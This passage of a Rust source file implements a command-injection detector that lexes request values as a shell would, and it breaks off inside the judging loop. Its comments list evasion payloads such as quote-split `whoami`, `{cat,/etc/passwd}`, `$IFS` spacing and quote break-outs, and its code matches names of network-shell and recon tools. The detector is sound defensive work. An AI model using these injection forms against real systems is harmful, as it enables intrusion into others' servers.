//! Command injection recognised by tokenising the value as a shell would.
//!
//! An application that pastes a value into a command line (`ping -c 1 VALUE`,
//! `convert "VALUE" out.png`) lets the value end the command it was meant to be an argument of
//! and start another: a *command separator* followed by a *command word*. So the value is lexed
//! with the grammar of the POSIX shell (and the few operators of Windows `cmd` it shares:
//! `&`, `&&`, `|`, `||`), in three contexts: as a bare argument, as the rest of an open
//! single-quoted string (the first `'` closes it) and as the rest of an open double-quoted one
//! (the first unescaped `"` closes it).
//!
//! The lexer knows what a shell does with a word before running it, which is what an attacker
//! uses to hide one: quotes and backslashes inside a word are removed (`w'h'o'am'i`, `wh""oami`,
//! `w\ho\am\i` are all `whoami`), and so are the carets of `cmd` (`who^ami`); `$@`, `$*`,
//! `$1`..`$9` and `$()` expand to nothing, `$IFS` and `${IFS}` split words like a space,
//! `$(...)` and backquotes hold a command of their own, and `{cat,/etc/passwd}` is a command
//! with its argument.
//!
//! # Separators and command words
//!
//! Separators are `;`, `|`, `||`, `&`, `&&`, a newline (also the two characters `\n` at the
//! start of a word, which many languages turn into one), and the opening of a command
//! substitution (`$(`, a backquote). The word after one is judged against a list of commands
//! an injection runs (recon such as `whoami`, `uname`, `ipconfig`; short probes such as `id`,
//! `ls`, `pwd`; tools that need arguments such as `cat`, `sleep`, `curl`), by name, as a path
//! reaching a `bin` directory (`/usr/bin/id`, `../../bin/sh`, `/???/??t`), or with `.exe`.
//! A word missing from the list is judged by its place and shape alone (see
//! [`unknown_command`]): a program name standing alone right after a break-out (`a);halt`)
//! is strong; first in the value (`;reboot`) and in the other places of an injection, weak.
//! A value that is a path to a binary ending in `|` (`../../usr/bin/env|`) is Perl's
//! pipe-open: strong.
//!
//! # Strong and weak
//!
//! What decides is where the separator stands:
//!
//! - a *break-out*: a closing quote or a closing parenthesis right before the separator
//!   (`';id;'`, `")|id`, `a);id;#`);
//! - the *lead* of the value: the separator comes first, after the value's first word, or
//!   after words that are all data (`127.0.0.1;id`, `x|id`, `&ping -n 3 127.0.0.1&`,
//!   `$(sleep 5)`, `127.0.0.1 -c 4; id`): the value was data, not text;
//! - *free text*: after two words or more, one of them text or a command (`cd app; ls -la`
//!   in a search box).
//!
//! A known command after a break-out or in the lead is strong, with these exceptions, all
//! for what a person writes:
//!
//! - after a word that could be one of a list (`fields=name|id`, `tags=linux;ls`), or a `&`
//!   after a URL or query string, only shell-looking arguments (an option, a path, a
//!   variable, a URL, a drive) make it strong; a short probe alone is weak, anything else
//!   nothing (`rock|pop`, `dog & cat`, `eat; sleep 8 hours`);
//! - a command that needs arguments and has none is nothing (`data:image/png;base64`,
//!   `curl | bash`: a shell alone needs arguments too);
//! - an everyday word (`set`, `cat`, `sleep`) with plain arguments after a newline or a `&`,
//!   or after a datum that is not an address, and a Markdown code span with plain arguments
//!   (`` `cd app` ``), are weak.
//!
//! In free text only an unmistakable command is strong: a recon command (not when words of
//! text follow it: `router settings; ifconfig shows no address` is nothing), a path to a
//! binary, a command word split by quotes or escapes, `cmd /c`, `net user`; a known command with
//! shell-looking arguments, or a short probe alone, is weak there, and anything else is
//! nothing, so that `tom & jerry`, `R&D`, `5 | 3`, `sudo apt update && sudo apt upgrade` and
//! `how to use grep | sort` pass. A substitution amid text (`` `ls -la` shows hidden
//! files ``, `apt install linux-headers-$(uname -r)`) is someone writing about a command:
//! weak at most, unless its command word is split. `$IFS` used as a space, a redirection to
//! `/dev/tcp/` or `/dev/udp/`, and a NUL byte right after the value's first word when that
//! word is a command are strong wherever they stand (in a value the pre-check lets through).
//!
//! Everything is bounded: the lexer moves forward on every step, keeps at most
//! [`MAX_TOKENS`] tokens and a nesting stack of [`MAX_DEPTH`] frames in arrays on the stack,
//! and nothing allocates.
//!
//! # Input
//!
//! One value at a time, already decoded (percent escapes, `+`, entities, full-width and
//! overlong forms folded): a query parameter's value without its name, or one path segment.
//! Backslashes are kept as sent, so they are read as the shell reads them.

/// Where in the value the injection was recognised, and how sure.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Finding {
    /// Byte offset of the separator (or of the construct) that starts the injection.
    pub(crate) start: usize,
    /// Byte offset just past the last token the deciding rule examined (`start <= end <=
    /// value.len()`).
    pub(crate) end: usize,
    /// False for what free text could also be (`cd app; ls -la`, `fields=name|id`).
    pub(crate) strong: bool,
}

/// Tokens one context keeps. An injection puts its separator and command near the front;
/// a value that needs more tokens is judged on its first ones.
const MAX_TOKENS: usize = 48;

/// Nesting of quotes, substitutions and parentheses followed; deeper input ends the lexing.
const MAX_DEPTH: usize = 16;

/// Longest word compared against the command list (longer words are kept as unknown).
const MAX_WORD: usize = 32;

/// Arguments examined after a command word.
const MAX_ARGS: usize = 6;

/// Cheap pre-check: false means [`detect`] would certainly return `None` (used to skip plain
/// values).
///
/// Every rule of [`detect`] needs a separator (`;`, `|`, `&`, a newline, a backquote), a NUL
/// byte, or a `$` that opens a substitution or expansion (`$(`, `${`, `$@`, `$IFS`), or the
/// two characters `\n`. Words, ids, numbers, e-mail addresses, dates, prices (`$5`) and URLs
/// without them are passed over in one pass over the bytes, without allocating.
pub(crate) fn worth_tokenising(value: &[u8]) -> bool {
    let mut prev = 0u8;
    for &c in value {
        let k = BYTE_CLASS[usize::from(c)];
        if k & SEPARATOR != 0
            || (prev & DOLLAR != 0 && matches!(c, b'(' | b'{' | b'@' | b'I'))
            || (prev & BACKSLASH != 0 && c == b'n')
        {
            return true;
        }
        prev = k;
    }
    false
}

const SEPARATOR: u8 = 1;
const DOLLAR: u8 = 2;
const BACKSLASH: u8 = 4;

/// What each byte means to [`worth_tokenising`].
static BYTE_CLASS: [u8; 256] = {
    let mut t = [0u8; 256];
    t[b';' as usize] = SEPARATOR;
    t[b'|' as usize] = SEPARATOR;
    t[b'&' as usize] = SEPARATOR;
    t[b'`' as usize] = SEPARATOR;
    t[b'\n' as usize] = SEPARATOR;
    t[0] = SEPARATOR;
    t[b'$' as usize] = DOLLAR;
    t[b'\\' as usize] = BACKSLASH;
    t
};

/// Judges one already-decoded parameter value (or path segment).
///
/// Returns the strongest finding of the three contexts (a bare argument, after an open `'`,
/// after an open `"`); a strong one wins over a weak one, and the earliest context wins a tie.
pub(crate) fn detect(value: &[u8]) -> Option<Finding> {
    if !worth_tokenising(value) {
        return None;
    }
    let mut best = judge_context(value, 0, false);
    if best.is_some_and(|b| b.strong) {
        return best;
    }
    let first_double = value
        .iter()
        .enumerate()
        .position(|(i, &c)| c == b'"' && (i == 0 || value[i - 1] != b'\\'));
    let first_single = value.iter().position(|&c| c == b'\'');
    for p in [first_single, first_double].into_iter().flatten() {
        if let Some(f) = judge_context(value, p + 1, true) {
            if best.is_none_or(|b| f.strong && !b.strong) {
                best = Some(f);
            }
            if f.strong {
                return best;
            }
        }
    }
    best
}

// ---------------------------------------------------------------------------------------------
// Commands

/// A reconnaissance or attack tool: no person types it after a separator by accident.
const RECON: u8 = 1;
/// Meaningful without arguments (`id`, `ls`, `pwd`).
const BARE: u8 = 2;
/// Needs arguments to do anything (`cat`, `sleep`, `curl`).
const ARGS: u8 = 4;
/// Also an everyday word (`set`, `read`, `cat`, `type`): needs more than a plain argument.
const WORDY: u8 = 8;
/// Takes numbers (`sleep 5`, `ping -c 3 127.0.0.1`): a number is a shell-looking argument.
const NUMERIC: u8 = 16;
/// Windows `cmd`: unmistakable with `/c` or `/k`.
const CMD: u8 = 32;
/// Windows `net`: unmistakable with `user`, `localgroup`, and so on.
const NET: u8 = 64;

/// The command a (lower-cased, unquoted) word names, as flags; 0 for an unknown word.
fn command(w: &[u8]) -> u8 {
    match w {
        b"whoami" | b"uname" | b"ifconfig" | b"ipconfig" | b"systeminfo" | b"netstat"
        | b"tasklist" | b"printenv" | b"nslookup" | b"certutil" | b"bitsadmin" | b"busybox"
        | b"powershell" | b"pwsh" | b"wmic" | b"getent" | b"netsh" | b"mkfifo" | b"socat"
        | b"ncat" | b"netcat" | b"mshta" | b"rundll32" | b"regsvr32" | b"cscript" | b"wscript"
        | b"nltest" | b"quser" | b"qwinsta" | b"jrunscript" => RECON,
        b"id" | b"ls" | b"pwd" | b"env" | b"ps" | b"hostname" | b"uptime" | b"ver" | b"ifup"
        | b"lsof" | b"arp" | b"logname" => BARE,
        // A shell alone is what people write about (`curl | bash`); it runs something with
        // an option or a script.
        b"sh" | b"bash" | b"zsh" | b"ksh" | b"dash" | b"csh" | b"tcsh" | b"sudo" | b"su" => ARGS,
        b"set" | b"read" | b"dir" | b"who" | b"date" | b"time" | b"vol" | b"users" | b"groups"
        | b"history" | b"path" => BARE | WORDY,
        b"echo" | b"cat" | b"more" | b"less" | b"head" | b"tail" | b"find" | b"touch" | b"type"
        | b"host" | b"start" | b"copy" | b"del" | b"file" | b"which" | b"tee" | b"sort"
        | b"cut" | b"call" => ARGS | WORDY,
        b"sleep" | b"ping" | b"kill" | b"timeout" => ARGS | WORDY | NUMERIC,
        b"nc" | b"telnet" | b"ping6" | b"usleep" => ARGS | NUMERIC,
        b"net" => ARGS | WORDY | NET,
        b"cmd" | b"%comspec%" => ARGS | CMD,
        b"printf" | b"curl" | b"wget" | b"python" | b"python2" | b"python3" | b"perl" | b"ruby"
        | b"php" | b"node" | b"lua" | b"chmod" | b"chown" | b"rm" | b"cp" | b"mv" | b"grep"
        | b"egrep" | b"awk" | b"gawk" | b"sed" | b"base64" | b"xxd" | b"od" | b"tftp" | b"ftp"
        | b"ssh" | b"scp" | b"dig" | b"cd" | b"eval" | b"exec" | b"nohup" | b"xargs" | b"dd"
        | b"tar" | b"openssl" | b"reg" | b"sc" | b"schtasks" | b"taskkill" | b"java"
        | b"crontab" | b"systemctl" | b"export" | b"chattr" | b"useradd" | b"passwd"
        | b"uudecode" | b"gzip" | b"zcat" | b"tr" | b"rev" | b"whereis" | b"stat" | b"iex" => ARGS,
        _ => 0,
    }
}

/// A Windows `net` subcommand that lists or changes accounts, shares or services.
fn net_subcommand(w: &[u8]) -> bool {
    matches!(
        w,
        b"user"
            | b"users"
            | b"localgroup"
            | b"group"
            | b"view"
            | b"share"
            | b"use"
            | b"session"
            | b"accounts"
            | b"config"
            | b"start"
            | b"stop"
    )
}

// ---------------------------------------------------------------------------------------------
// Tokens

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum T {
    /// A word, after quote removal and expansion of what expands to nothing.
    Word,
    /// `;`, `|`, `||`, `&`, `&&`, a newline (runs of them are one token).
    Sep,
    /// `$(` or an opening backquote: a command of its own follows.
    Subst,
    /// `(`: a subshell or a grouping.
    Paren,
    /// `)` or a backquote that closes what the value opened.
    Close,
    /// `)` that closes nothing the value opened: a break-out of the surrounding command.
    Stray,
    /// `<`, `>`, `>>`, `>&`, `&>` and the like.
    Redir,
    /// A NUL byte.
    Nul,
}

// Word flags.
/// Quotes, escapes or empty expansions inside the word (`w'h'o'am'i`, `c\at`, `who$@ami`).
const SPLIT: u16 = 1;
/// An argument a shell user writes: an option, a path, a variable (`$HOME`, `%SYSTEMROOT%`),
/// a URL, a drive.
const SHELLISH: u16 = 2;
/// Digits and dots only (`5`, `127.0.0.1`).
const NUMBER: u16 = 4;
/// Letters (and `_`, `-`, `=`, `,`) only, three or more: a word of a list (`name|id`,
/// `rock|pop`, `fields=name|id`).
const LISTWORD: u16 = 8;
/// A path to a binary: `/bin/…`, `…/bin/…`, `/???/??t`.
const BINPATH: u16 = 16;
/// `/c` or `/k`: what follows `cmd` to run a command.
const SWITCH: u16 = 32;
/// A `net` subcommand.
const NETSUB: u16 = 64;
/// Brace expansion with the argument inside (`{cat,/etc/passwd}`).
const BRACE_ARGS: u16 = 128;
/// `/dev/tcp/…` or `/dev/udp/…`.
const DEVNET: u16 = 256;
/// The separator is a newline.
const NEWLINE: u16 = 512;
/// The separator is a single `&`.
const AMP: u16 = 1024;
/// A `=` or `?` in the word: a URL or a query string, where `&` joins parameters.
const QUERYISH: u16 = 2048;
/// The substitution is a backquote (also Markdown's code span).
const BACKQUOTE: u16 = 4096;
/// Data rather than a word of text: a number, an option, a path, or no run of three letters
/// (`127.0.0.1`, `-c`, `4`).
const DATA: u16 = 8192;
/// Shaped like the name of a program (`reboot`, `notepad`, `ntpq`): a letter, then letters,
/// digits, `_` or `-`, and no more than that. What an unknown command word must be to count.
const NAMEISH: u16 = 16384;

#[derive(Clone, Copy, Debug)]
struct Tok {
    t: T,
    start: usize,
    end: usize,
    /// [`command`] flags of a word.
    cmd: u8,
    flags: u16,
}

const NO_TOK: Tok = Tok {
    t: T::Nul,
    start: 0,
    end: 0,
    cmd: 0,
    flags: 0,
};

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Frame {
    /// The value itself.
    Top,
    /// Inside `$(`.
    Subst,
    /// Inside `(`.
    Paren,
    /// Inside backquotes.
    Backquote,
    /// Inside double quotes.
    Double,
}

/// The word being built.
struct WordBuf {
    start: Option<usize>,
    buf: [u8; MAX_WORD],
    len: usize,
    over: bool,
    /// Bytes added outside quotes.
    plain: bool,
    /// Quoted segments.
    quotes: u8,
    /// Backslash escapes and empty expansions.
    escapes: u8,
    /// A `$VAR` or `${...}` expansion.
    dollar: bool,
}

impl WordBuf {
    const fn new() -> Self {
        WordBuf {
            start: None,
            buf: [0; MAX_WORD],
            len: 0,
            over: false,
            plain: false,
            quotes: 0,
            escapes: 0,
            dollar: false,
        }
    }

    fn begin(&mut self, at: usize) {
        if self.start.is_none() {
            self.start = Some(at);
        }
    }

    fn push(&mut self, at: usize, c: u8) {
        self.begin(at);
        if self.len < MAX_WORD {
            self.buf[self.len] = c.to_ascii_lowercase();
            self.len += 1;
        } else {
            self.over = true;
        }
    }

    fn text(&self) -> &[u8] {
        &self.buf[..self.len]
    }
}

struct Lexer<'a> {
    b: &'a [u8],
    i: usize,
    stack: [Frame; MAX_DEPTH],
    depth: usize,
    toks: [Tok; MAX_TOKENS],
    n: usize,
    word: WordBuf,
    /// Lexing stopped early (token or nesting bound).
    full: bool,
    /// Where `$IFS` stood for a space between two words.
    ifs: Option<(usize, usize)>,
    /// Whether `\n` at the start of a word may be read as a newline.
    escaped_newline_ok: bool,
}

fn is_blank(c: u8) -> bool {
    matches!(c, b' ' | b'\t' | b'\r' | 0x0b | 0x0c)
}

impl<'a> Lexer<'a> {
    fn new(b: &'a [u8]) -> Self {
        Lexer {
            b,
            i: 0,
            stack: [Frame::Top; MAX_DEPTH],
            depth: 1,
            toks: [NO_TOK; MAX_TOKENS],
            n: 0,
            word: WordBuf::new(),
            full: false,
            ifs: None,
            escaped_newline_ok: true,
        }
    }

    fn at(&self, k: usize) -> Option<u8> {
        self.b.get(k).copied()
    }

    fn top(&self) -> Frame {
        self.stack[self.depth - 1]
    }

    fn push_frame(&mut self, f: Frame) {
        if self.depth < MAX_DEPTH {
            self.stack[self.depth] = f;
            self.depth += 1;
        } else {
            self.full = true;
        }
    }

    fn pop_frame(&mut self) {
        if self.depth > 1 {
            self.depth -= 1;
        }
    }

    fn emit(&mut self, t: T, start: usize, end: usize, flags: u16) {
        if t == T::Sep && self.n > 0 {
            let last = &mut self.toks[self.n - 1];
            if last.t == T::Sep {
                last.end = end;
                return;
            }
        }
        if self.n == MAX_TOKENS {
            self.full = true;
            return;
        }
        self.toks[self.n] = Tok {
            t,
            start,
            end,
            cmd: 0,
            flags,
        };
        self.n += 1;
    }

    /// Ends the current word (if any) at `end` and classifies it.
    fn end_word(&mut self, end: usize) {
        let Some(start) = self.word.start else {
            return;
        };
        let (cmd, flags) = classify(&self.word);
        self.word = WordBuf::new();
        if self.n == MAX_TOKENS {
            self.full = true;
            return;
        }
        self.toks[self.n] = Tok {
            t: T::Word,
            start,
            end,
            cmd,
            flags,
        };
        self.n += 1;
    }

    /// Lexes from `from` until the end of the value or a bound.
    fn run(&mut self, from: usize) {
        self.i = from;
        while self.i < self.b.len() && !self.full {
            if self.top() == Frame::Double {
                self.double();
            } else {
                self.bare();
            }
        }
        let end = self.b.len().min(self.i);
        self.end_word(end);
    }

    fn bare(&mut self) {
        let i = self.i;
        let c = self.b[i];
        let mut newline_ok = true;
        match c {
            c if is_blank(c) => {
                self.end_word(i);
                self.i += 1;
            }
            b'\n' => {
                self.end_word(i);
                self.emit(T::Sep, i, i + 1, NEWLINE);
                self.i += 1;
            }
            0 => {
                self.end_word(i);
                self.emit(T::Nul, i, i + 1, 0);
                self.i += 1;
            }
            b';' => {
                self.end_word(i);
                self.emit(T::Sep, i, i + 1, 0);
                self.i += 1;
            }
            b'|' => {
                self.end_word(i);
                let len = if matches!(self.at(i + 1), Some(b'|' | b'&')) {
                    2
                } else {
                    1
                };
                self.emit(T::Sep, i, i + len, 0);
                self.i += len;
            }
            b'&' => {
                self.end_word(i);
                match self.at(i + 1) {
                    Some(b'&') => {
                        self.emit(T::Sep, i, i + 2, 0);
                        self.i += 2;
                    }
                    Some(b'>') => self.redirect(),
                    _ => {
                        self.emit(T::Sep, i, i + 1, AMP);
                        self.i += 1;
                    }
                }
            }
            b'`' => {
                self.end_word(i);
                if self.top() == Frame::Backquote {
                    self.pop_frame();
                    self.emit(T::Close, i, i + 1, 0);
                } else {
                    self.push_frame(Frame::Backquote);
                    self.emit(T::Subst, i, i + 1, BACKQUOTE);
                }
                self.i += 1;
            }
            b'$' => self.dollar(),
            b'(' => {
                self.end_word(i);
                self.push_frame(Frame::Paren);
                self.emit(T::Paren, i, i + 1, 0);
                self.i += 1;
            }
            b')' => {
                self.end_word(i);
                if matches!(self.top(), Frame::Subst | Frame::Paren) {
                    self.pop_frame();
                    self.emit(T::Close, i, i + 1, 0);
                } else {
                    self.emit(T::Stray, i, i + 1, 0);
                }
                self.i += 1;
            }
            b'<' | b'>' => {
                self.end_word(i);
                self.redirect();
            }
            b'#' if self.word.start.is_none() => {
                // A comment, to the end of the line.
                let rest = &self.b[i..];
                self.i += rest.iter().position(|&c| c == b'\n').unwrap_or(rest.len());
            }
            b'\'' => {
                self.word.begin(i);
                let rest = &self.b[i + 1..];
                let closed = rest.iter().position(|&c| c == b'\'');
                // An unterminated quote splits nothing: it runs to the end of the value.
                if closed.is_some() {
                    self.word.quotes = self.word.quotes.saturating_add(1);
                }
                let len = closed.unwrap_or(rest.len());
                for (k, &c) in rest[..len].iter().enumerate().take(MAX_WORD + 1) {
                    self.word.push(i + 1 + k, c);
                }
                // Past the closing quote, or to the end of an unterminated one.
                self.i = (i + 2 + len).min(self.b.len());
            }
            b'"' => {
                self.word.begin(i);
                self.push_frame(Frame::Double);
                self.i += 1;
            }
            // Windows `cmd` escapes the next character with a caret (`who^ami`).
            b'^' if self
                .at(i + 1)
                .is_some_and(|c| !is_blank(c) && c != b'\n' && c != 0) =>
            {
                self.word.begin(i);
                self.word.escapes = self.word.escapes.saturating_add(1);
                self.word.push(i, self.b[i + 1]);
                self.i += 2;
            }
            b'\\' => match self.at(i + 1) {
                None => {
                    self.word.plain = true;
                    self.word.push(i, c);
                    self.i += 1;
                }
                Some(b'\n') => self.i += 2,
                Some(b'n') if self.word.start.is_none() && self.escaped_newline_ok => {
                    self.emit(T::Sep, i, i + 2, NEWLINE);
                    self.i += 2;
                    newline_ok = false;
                }
                Some(next) => {
                    self.word.escapes = self.word.escapes.saturating_add(1);
                    self.word.push(i, next);
                    self.i += 2;
                }
            },
            _ => {
                self.word.plain = true;
                self.word.push(i, c);
                self.i += 1;
            }
        }
        self.escaped_newline_ok = newline_ok;
    }

    fn redirect(&mut self) {
        let i = self.i;
        let mut k = i;
        while k < self.b.len() && k < i + 3 && matches!(self.b[k], b'<' | b'>' | b'&' | b'|') {
            k += 1;
        }
        self.emit(T::Redir, i, k, 0);
        self.i = k.max(i + 1);
    }

    fn dollar(&mut self) {
        let i = self.i;
        match self.at(i + 1) {
            Some(b'(') => {
                if self.at(i + 2) == Some(b')') {
                    // `$()` expands to nothing.
                    self.word.begin(i);
                    self.word.escapes = self.word.escapes.saturating_add(1);
                    self.i += 3;
                } else {
                    self.end_word(i);
                    self.push_frame(Frame::Subst);
                    self.emit(T::Subst, i, i + 2, 0);
                    self.i += 2;
                }
            }
            Some(b'{') if self.b[i..].starts_with(b"${IFS}") => self.ifs(i, 6),
            Some(b'I')
                if self.b[i..].starts_with(b"$IFS")
                    && !self
                        .at(i + 4)
                        .is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_') =>
            {
                self.ifs(i, 4)
            }
            Some(b'@' | b'*' | b'0'..=b'9') => {
                // Positional parameters: nothing, in a command line.
                self.word.begin(i);
                self.word.escapes = self.word.escapes.saturating_add(1);
                self.i += 2;
            }
            Some(b'{') => {
                self.word.begin(i);
                self.word.dollar = true;
                let rest = &self.b[i..];
                let len = rest
                    .iter()
                    .position(|&c| c == b'}')
                    .map_or(rest.len(), |p| p + 1);
                for (k, &c) in rest[..len].iter().enumerate().take(MAX_WORD + 1) {
                    self.word.push(i + k, c);
                }
                self.i += len;
            }
            Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
                self.word.begin(i);
                self.word.dollar = true;
                self.word.plain = true;
                self.word.push(i, b'$');
                self.i += 1;
            }
            _ => {
                self.word.plain = true;
                self.word.push(i, b'$');
                self.i += 1;
            }
        }
    }

    /// `$IFS` of `len` bytes at `i`: a space; noted when it stands between two words.
    fn ifs(&mut self, i: usize, len: usize) {
        let before = self.word.start.is_some();
        let after = self.at(i + len).is_some_and(|c| !is_blank(c) && c != b'\n');
        if before && after && self.ifs.is_none() {
            self.ifs = Some((self.word.start.unwrap_or(i), i + len));
        }
        self.end_word(i);
        self.i += len;
    }

    fn double(&mut self) {
        let i = self.i;
        let c = self.b[i];
        match c {
            b'"' => {
                // Counted when closed: an unterminated quote runs to the end of the value.
                self.word.quotes = self.word.quotes.saturating_add(1);
                self.pop_frame();
                self.i += 1;
            }
            b'\\' => match self.at(i + 1) {
                Some(next @ (b'$' | b'`' | b'"' | b'\\')) => {
                    self.word.push(i, next);
                    self.i += 2;
                }
                Some(b'\n') => self.i += 2,
                _ => {
                    self.word.push(i, c);
                    self.i += 1;
                }
            },
            b'$' if self.at(i + 1) == Some(b'(') => {
                self.end_word(i);
                self.push_frame(Frame::Subst);
                self.emit(T::Subst, i, i + 2, 0);
                self.i += 2;
            }
            b'`' => {
                self.end_word(i);
                self.push_frame(Frame::Backquote);
                self.emit(T::Subst, i, i + 1, BACKQUOTE);
                self.i += 1;
            }
            _ => {
                self.word.push(i, c);
                self.i += 1;
            }
        }
    }
}

/// The command flags and word flags of a finished word.
fn classify(w: &WordBuf) -> (u8, u16) {
    let text = w.text();
    let mut flags = 0u16;
    let split = w.escapes > 0 || (w.quotes > 0 && (w.plain || w.quotes > 1));
    if split {
        flags |= SPLIT;
    }
    if text.is_empty() {
        return (0, flags);
    }
    let first = text[0];
    let second = text.get(1).copied();
    if (first == b'-' && second.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'-'))
        || first == b'/'
        || first == b'~'
        || text.starts_with(b"./")
        || text.starts_with(b"../")
        || w.dollar
        || contains(text, b"://")
        || (first == b'%' && text[1..].contains(&b'%'))
        || (first.is_ascii_alphabetic() && second == Some(b':'))
    {
        flags |= SHELLISH;
    }
    if text.iter().all(|&c| c.is_ascii_digit() || c == b'.') && !text.iter().all(|&c| c == b'.') {
        flags |= NUMBER;
    }
    if text.len() >= 3
        && !split
        && text
            .iter()
            .all(|&c| c.is_ascii_alphabetic() || matches!(c, b'_' | b'-' | b'=' | b','))
    {
        flags |= LISTWORD;
    }
    if text.iter().any(|&c| c == b'=' || c == b'?') {
        flags |= QUERYISH;
    }
    if flags & (SHELLISH | NUMBER) != 0 || !has_letter_run(text, 3) {
        flags |= DATA;
    }
    if first.is_ascii_alphabetic()
        && text
            .iter()
            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-'))
    {
        flags |= NAMEISH;
    }
    if matches!(text, b"/c" | b"/k" | b"/r") {
        flags |= SWITCH;
    }
    if net_subcommand(text) {
        flags |= NETSUB;
    }
    if text.starts_with(b"/dev/tcp/") || text.starts_with(b"/dev/udp/") {
        flags |= DEVNET;
    }
    if w.over {
        return (0, flags);
    }
    // The command word: the first element of a brace expansion, the last part of a path,
    // without `.exe`.
    let mut name = text;
    if first == b'{' {
        if let Some(comma) = text.iter().position(|&c| c == b',') {
            name = &text[1..comma];
            let rest = &text[comma..];
            if rest.iter().any(|&c| matches!(c, b'/' | b'-' | b'$')) {
                flags |= BRACE_ARGS;
            }
        }
    }
    if let Some(slash) = name.iter().rposition(|&c| c == b'/') {
        let dir = &name[..=slash];
        let absolute = dir.first() == Some(&b'/');
        let relative = dir.first() == Some(&b'.');
        if (absolute || relative) && (dir.ends_with(b"/bin/") || dir.ends_with(b"/sbin/")) {
            flags |= BINPATH;
        }
        if absolute && is_glob_path(dir) {
            flags |= BINPATH;
        }
        name = &name[slash + 1..];
    }
    if let Some(stem) = name.strip_suffix(b".exe") {
        name = stem;
    }
    (command(name), flags)
}

/// Whether `text` has `run` ASCII letters in a row.
fn has_letter_run(text: &[u8], run: usize) -> bool {
    let mut n = 0;
    for &c in text {
        n = if c.is_ascii_alphabetic() { n + 1 } else { 0 };
        if n >= run {
            return true;
        }
    }
    false
}

/// `/???/`, `/b??/`, `/*/`: a directory spelled with wildcards.
fn is_glob_path(dir: &[u8]) -> bool {
    let first = dir
        .get(1..)
        .and_then(|d| d.split(|&c| c == b'/').next())
        .unwrap_or(&[]);
    let globs = first
        .iter()
        .filter(|&&c| matches!(c, b'?' | b'*' | b'['))
        .count();
    !first.is_empty()
        && globs >= 2
        && first
            .iter()
            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'?' | b'*' | b'[' | b']'))
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

// ---------------------------------------------------------------------------------------------
// Judging

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Level {
    None,
    Weak,
    Strong,
}

/// Where a separator stands.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Place {
    /// Right after a closing quote or parenthesis.
    BreakOut,
    /// First in the value, or after a number or an address (`127.0.0.1;id`).
    Lead,
    /// After the value's first word, some other datum (`x|id`, `/index.html|id`), or after
    /// words that are all data (`127.0.0.1 -c 4; id`).
    LeadAfterToken,
    /// After the value's first word when that word could be one of a list (`name|id`), or
    /// a `&` after a URL or query string (`/a?b=1&id`).
    LeadAfterWord,
    /// After two words or more, not all of them data.
    Free,
    /// A substitution with words of text after it (`` `ls -la` shows hidden files ``,
    /// `linux-headers-$(uname -r) package`): weak at most.
    Text,
}

/// Lexes `value` from `from` (0 for a bare argument, or just past the quote that closes an
/// open string, with `breakout`) and judges the tokens.
fn judge_context(value: &[u8], from: usize, breakout: bool) -> Option<Finding> {
    let mut lx = Lexer::new(value);
    lx.run(from);
    let toks = &lx.toks[..lx.n];
    if let Some((start, end)) = lx.ifs {
        return Some(Finding {
            start,
            end,
            strong: true,
        });
    }
    let mut best: Option<(Level, usize, usize)> = None;
    let mut words = 0usize;
    let mut first_word: Option<Tok> = None;
    // Whether every word so far is data, none a command (`127.0.0.1 -c 4`).
    let mut all_data = true;
    let lead_at = toks.iter().position(|t| t.t != T::Stray).unwrap_or(0);
    for (i, tok) in toks.iter().enumerate() {
        let found = match tok.t {
            T::Word => {
                if words == 0 {
                    first_word = Some(*tok);
                }
                words += 1;
                all_data &= tok.flags & DATA != 0 && tok.cmd == 0;
                None
            }
            // A value that is a command and ends in a pipe (`/usr/bin/env|`): Perl's
            // two-argument `open` runs it and reads its output.
            T::Sep
                if i + 1 == toks.len()
                    && !lx.full
                    && words == 1
                    && i > 0
                    && toks[i - 1].t == T::Word
                    && value.get(tok.start..tok.end) == Some(b"|") =>
            {
                let w = toks[i - 1];
                // A long `../../…/bin/env` is over the word buffer: read its end as sent.
                let raw = value.get(w.start..w.end).unwrap_or_default();
                let bin = raw.iter().rposition(|&c| c == b'/').is_some_and(|slash| {
                    let (dir, name) = (&raw[..=slash], &raw[slash + 1..]);
                    (dir.ends_with(b"/bin/") || dir.ends_with(b"/sbin/"))
                        && matches!(dir.first(), Some(b'/' | b'.'))
                        && name.first().is_some_and(u8::is_ascii_alphabetic)
                });
                if w.flags & BINPATH != 0 || bin {
                    Some((Level::Strong, w.start, tok.end))
                } else if w.cmd & (RECON | BARE) != 0 {
                    Some((Level::Weak, w.start, tok.end))
                } else {
                    None
                }
            }
            T::Sep | T::Subst => {
                let place = if breakout && i == lead_at {
                    Place::BreakOut
                } else if breakout {
                    // The other separators of a quote context are the bare context's.
                    break;
                } else if i > 0 && toks[i - 1].t == T::Stray {
                    Place::BreakOut
                } else if tok.t == T::Subst && text_follows(toks, i) {
                    Place::Text
                } else if words == 0 {
                    Place::Lead
                } else if words == 1 {
                    let flags = first_word.map_or(0, |w| w.flags);
                    if flags & LISTWORD != 0 || (flags & QUERYISH != 0 && tok.flags & AMP != 0) {
                        Place::LeadAfterWord
                    } else if flags & NUMBER != 0 {
                        Place::Lead
                    } else {
                        Place::LeadAfterToken
                    }
                } else if all_data {
                    // Arguments the attacker added before the separator, not text.
                    Place::LeadAfterToken
                } else {
                    Place::Free
                };
                judge_command(value, toks, i, place, lx.full)
            }
            T::Nul => {
                // A command word first in the value, cut off by a NUL byte.
                let command_first = words == 1
                    && i > 0
                    && toks[i - 1].t == T::Word
                    && toks[i - 1].cmd & (RECON | BARE) != 0;
                command_first.then(|| (Level::Strong, toks[i - 1].start, tok.end))
            }
            T::Redir => toks
                .get(i + 1)
                .filter(|t| t.t == T::Word && t.flags & DEVNET != 0)
                .map(|t| (Level::Strong, tok.start, t.end)),
            _ => None,
        };
        if let Some(f) = found {
            if f.0 > best.map_or(Level::None, |b| b.0) {
                best = Some(f);
            }
            if f.0 == Level::Strong {
                break;
            }
